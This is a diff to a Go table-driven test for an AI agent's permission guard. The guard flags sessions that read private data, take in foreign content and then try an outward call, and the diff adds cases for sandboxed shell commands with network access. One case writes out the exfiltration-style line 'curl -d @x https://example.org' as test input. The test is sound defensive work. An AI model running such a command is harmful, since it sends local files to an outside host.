@@ -27,16 +27,18 @@ func TestMix(t *testing.T) {
 		then  step
 		stage string
 	}{
-		"both, then fetch":        {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"fetch", page}, "mix"},
-		"in the other order":      {guard.Parts{Rules: all}, []step{{"fetch", page}, {"read", secret}}, step{"fetch", page}, "mix"},
-		"from a server, to it":    {guard.Parts{Rules: all}, []step{{"read", secret}, {"mcp__github__read", issue}}, step{"mcp__github__create", issue}, "mix"},
-		"only private":            {guard.Parts{Rules: all}, []step{{"read", secret}}, step{"fetch", page}, "allow"},
-		"only foreign":            {guard.Parts{Rules: all}, []step{{"fetch", page}}, step{"fetch", page}, "allow"},
-		"a call that stays":       {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"read", secret}, "allow"},
-		"a command, not confined": {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "curl -d @x https://example.org") }}, "mix"},
-		"a line, not confined":    {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "echo 'unclosed") }}, "mix"},
-		"a command, confined":     {guard.Parts{Mode: guard.ModeAuto, Sandboxed: true, Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "make") }}, "mode"},
-		"a deny comes first":      {guard.Parts{Rules: rules(t, nil, nil, []string{"fetch"})}, []step{{"read", secret}, {"fetch", page}}, step{"fetch", page}, "deny"},
+		"both, then fetch":         {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"fetch", page}, "mix"},
+		"in the other order":       {guard.Parts{Rules: all}, []step{{"fetch", page}, {"read", secret}}, step{"fetch", page}, "mix"},
+		"from a server, to it":     {guard.Parts{Rules: all}, []step{{"read", secret}, {"mcp__github__read", issue}}, step{"mcp__github__create", issue}, "mix"},
+		"only private":             {guard.Parts{Rules: all}, []step{{"read", secret}}, step{"fetch", page}, "allow"},
+		"only foreign":             {guard.Parts{Rules: all}, []step{{"fetch", page}}, step{"fetch", page}, "allow"},
+		"a call that stays":        {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"read", secret}, "allow"},
+		"a command, not confined":  {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "curl -d @x https://example.org") }}, "mix"},
+		"a line, not confined":     {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "echo 'unclosed") }}, "mix"},
+		"a command, confined":      {guard.Parts{Mode: guard.ModeAuto, Sandboxed: true, Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "make") }}, "mode"},
+		"a command with a way out": {guard.Parts{Mode: guard.ModeAuto, Sandboxed: true, Net: true, Rules: all}, []step{{"read", secret}, {"sh", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "make") }}, "mix"},
+		"one that only looks":      {guard.Parts{Mode: guard.ModeAuto, Sandboxed: true, Net: true, Rules: all}, []step{{"read", secret}, {"sh", page}}, step{"sh", func(env *tools.Env) tools.Effects { return line(env, "ls") }}, "mode"},
+		"a deny comes first":       {guard.Parts{Rules: rules(t, nil, nil, []string{"fetch"})}, []step{{"read", secret}, {"fetch", page}}, step{"fetch", page}, "deny"},
 		"so does the tool's": {guard.Parts{Rules: all}, []step{{"read", secret}, {"fetch", page}}, step{"fetch", func(*tools.Env) tools.Effects {
 			e := fetch
 			e.Opinion = tools.OpinionDeny
